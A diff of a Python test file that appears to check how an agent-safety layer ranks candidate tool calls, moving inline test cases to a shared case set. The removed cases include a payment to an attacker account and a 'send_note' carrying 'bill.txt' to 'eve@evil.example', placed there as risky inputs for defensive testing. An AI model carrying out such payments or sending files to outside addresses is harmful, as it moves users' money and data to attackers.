@@ -13,6 +13,7 @@ import anyio
 import orjson
 import pytest
 
+from cases import cases
 from staged import (
     ALLOW,
     BILL,
@@ -228,22 +229,7 @@ async def test_of_several_a_model_chooses_and_without_its_word_the_order_does() 
         assert bool(event.asking.failure) == (by == "order")
 
 
-@pytest.mark.parametrize(
-    ("better", "worse"),
-    [
-        (branch("send_note", {"to": "ann@x.example", "body": "b"}), branch("pay", {"account": EVIL, "amount": 900})),
-        (branch("__response__"), branch("send_note", {"to": "ann@x.example", "body": "b"})),
-        (branch(*READ), branch(*PAY)),
-        (branch("send_note", {"to": "ann@x.example", "body": "b"}), branch(*PAY)),
-        (branch(*READ, redundancy_level="minimal"), branch("read_file", {"path": "b.txt"}, redundancy_level="high")),
-        (branch(*READ, necessity_score=0.9), branch("read_file", {"path": "b.txt"}, necessity_score=0.1)),
-        (
-            branch(*PAY),
-            branch("send_note", {"to": "eve@evil.example", "body": "bill.txt"}),
-        ),  # what is asked about comes last
-        (branch(*READ), branch("read_notes", {"path": "bill.txt"})),  # nobody has declared what it does
-    ],
-)
+@cases("speculation_runs")
 async def test_the_order_is_verdict_effect_declared_redundancy_necessity(
     better: Mapping[str, object], worse: Mapping[str, object]
 ) -> None:
